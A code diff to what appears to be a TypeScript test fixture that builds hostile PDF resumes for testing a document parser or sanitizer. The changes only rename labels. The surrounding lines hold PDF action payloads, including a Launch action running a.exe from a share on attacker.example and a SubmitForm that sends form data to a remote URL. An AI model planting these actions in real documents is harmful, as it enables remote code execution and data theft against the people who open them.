@@ -36,11 +36,11 @@ const ACTIONS: Record<string, string> = {
   'a file of a share': '<</S/Launch/F(\\\\\\\\attacker.example\\\\share\\\\a.exe)>>',
   'another document': `<</S/GoToR/F(${FAR}a.pdf)/D[0/Fit]/NewWindow true>>`,
   'a document inside': '<</S/GoToE/F(a.pdf)/T<</R/C/N(a)>>/D[0/Fit]>>',
-  'what is in the form': `<</S/SubmitForm/F<</FS/URL/F(${FAR})>>/Flags 4>>`,
+  'the form data': `<</S/SubmitForm/F<</FS/URL/F(${FAR})>>/Flags 4>>`,
   'data to be taken in': `<</S/ImportData/F(${FAR}a.fdf)>>`,
   'a dialogue to print': '<</S/Named/N/Print>>',
   'a name of a command': '<</S/Named/N/SaveAs>>',
-  'a film': '<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/CT(video/mp4)/D(a.mp4)>>>>>>',
+  'a video': '<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/CT(video/mp4)/D(a.mp4)>>>>>>',
   'itself, again and again': '<</S/GoTo/D[3 0 R/Fit]/Next<</S/GoTo/D[3 0 R/Fit]>>>>',
 };
 
@@ -109,7 +109,7 @@ const carrying: HostileResume[] = Object.entries(FILES).flatMap(([file, stream])
       objects,
     ),
     withObjects(
-      `${file} as a rich film`,
+      `${file} as rich media`,
       '',
       on('RichMedia', '/RichMediaContent<</Assets<</Names[(a) 9 0 R]>>>>'),
       objects,
